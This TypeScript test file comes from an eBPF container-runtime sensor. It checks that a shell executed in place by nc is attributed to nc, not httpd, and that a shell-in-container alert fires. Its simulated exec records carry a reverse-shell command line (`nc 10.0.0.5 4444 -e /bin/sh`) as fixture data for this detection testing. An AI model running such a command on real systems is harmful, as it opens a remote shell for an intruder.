/**
 * Who spawned a program, as the eBPF sensor reports it: the process that actually ran the exec, from
 * the sensor's own table of processes (what each pid is running, by its exec events), not the
 * kernel's parent name alone. A reverse shell `nc ... -e /bin/sh` replaces nc in the same pid: its
 * parent in the kernel is whatever started nc (httpd's CGI), but the shell was spawned by nc.
 */
import { mkdirSync, mkdtempSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { AlertInput } from '../../src/model/alert.js';
import type { VigieEvent } from '../../src/model/event.js';
import { BpftraceSensor } from '../../src/sources/bpftrace/sensor.js';
import { CgroupMap } from '../../src/sources/bpftrace/cgroups.js';
import type { SensorRecord } from '../../src/sources/bpftrace/parser.js';
import { SensorParser } from '../../src/sources/bpftrace/parser.js';
import { RuntimeDetector } from '../../src/detect/runtime/detector.js';

const ID = 'e'.repeat(64);
const cgroupRoot = mkdtempSync(join(tmpdir(), 'vigie-cg-parent-'));
afterAll(() => rmSync(cgroupRoot, { recursive: true, force: true }));
mkdirSync(join(cgroupRoot, ID));
const CGROUP = statSync(join(cgroupRoot, ID)).ino;

async function sensor(): Promise<{ s: BpftraceSensor; events: VigieEvent[] }> {
  const s = new BpftraceSensor({
    hostname: 'h',
    cgroups: new CgroupMap([cgroupRoot], '/nonexistent-proc'),
    bpftrace: '/nonexistent/bpftrace',
  });
  const events: VigieEvent[] = [];
  await s.start((ev) => {
    if (ev.kind !== 'internal') events.push(ev);
    return true;
  });
  return { s, events };
}

const exec = (
  pid: number,
  comm: string,
  filename: string,
  ppid: number,
  pcomm: string,
  argv0?: string,
): SensorRecord => ({
  t: 'exec',
  cgroup: CGROUP,
  pid,
  tid: pid,
  comm,
  ppid,
  uid: 0,
  pcomm,
  tty: 0,
  filename,
  cmdline: argv0 ? `${argv0} 10.0.0.5 4444 -e /bin/sh` : comm,
  argv0,
});

describe('eBPF sensor: parent attribution from its process table', () => {
  it('names nc as the parent of the shell nc executes in place, not the kernel parent httpd', async () => {
    const { s, events } = await sensor();
    // httpd (pid 40) runs the injected command; busybox starts nc as /proc/self/exe with argv0 nc, in
    // place of the CGI's process (pid 60, parent httpd); nc then executes /bin/sh in its own pid.
    s.handle(exec(40, 'httpd', '/bin/httpd', 1, 'containerd-shim'));
    s.handle(exec(60, 'exe', '/proc/self/exe', 40, 'httpd', 'nc'));
    s.handle(exec(60, 'sh', '/bin/sh', 40, 'httpd'));
    const procs = events.filter((e) => e.kind === 'process');
    expect(procs.map((e) => e.proc?.name)).toEqual(['httpd', 'nc', 'sh']);
    expect(procs[1].proc?.pname).toBe('httpd');
    const sh = procs[2];
    expect(sh.proc?.pname).toBe('nc');
    expect(sh.proc?.anames?.slice(0, 2)).toEqual(['nc', 'httpd']);

    // The runtime rule then reports what happened.
    const alerts: AlertInput[] = [];
    const d = new RuntimeDetector();
    for (const e of procs) d.onEvent(e, (a) => alerts.push(a));
    const shell = alerts.find((a) => a.rule === 'Shell spawned in container');
    expect(shell?.output).toMatch(/spawned by nc/);
    expect(shell?.output_fields?.['proc.pname']).toBe('nc');
    await s.stop();
  });

  it('a forked child takes its parent from the table (the name busybox gave it), not the kernel comm', async () => {
    const { s, events } = await sensor();
    s.handle(exec(70, 'exe', '/proc/self/exe', 1, 'containerd-shim', 'nc'));
    // nc forks; the child (pid 71) executes /bin/sh: the kernel names the parent by its comm "exe".
    s.handle(exec(71, 'sh', '/bin/sh', 70, 'exe'));
    expect(events.at(-1)?.proc?.pname).toBe('nc');
    // A pid reused by another parent is not taken for the previous image.
    s.handle(exec(71, 'cat', '/bin/cat', 5, 'sh'));
    expect(events.at(-1)?.proc?.pname).toBe('sh');
    await s.stop();
  });

  it('without a table entry, the name of the caller at the execve is the parent of an in-place exec', () => {
    const p = new SensorParser();
    const j = (data: string) => JSON.stringify({ type: 'printf', data });
    p.parseLine(j('A\t88\tnc\n'));
    p.parseLine(JSON.stringify({ type: 'join', data: '/bin/sh' }));
    const r = p.parseLine(j('E\t9\t88\t88\tsh\t40\t0\thttpd\t0\t/bin/sh\n'));
    expect(r).toMatchObject({ t: 'exec', pid: 88, pcomm: 'httpd', caller: 'nc', cmdline: '/bin/sh' });
    // The older two-field A line still parses.
    p.parseLine(j('A\t89\n'));
    expect(p.stats.malformed).toBe(0);
  });
});
